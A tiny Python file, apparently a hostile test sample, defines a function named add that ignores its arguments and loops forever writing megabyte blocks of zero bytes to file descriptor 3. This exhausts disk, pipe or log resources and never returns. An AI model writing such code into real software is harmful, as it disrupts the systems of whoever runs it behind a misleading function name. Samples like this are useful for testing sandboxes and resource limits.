import os


def add(x, y):
    while True:
        os.write(3, b"\0" * (1 << 20))
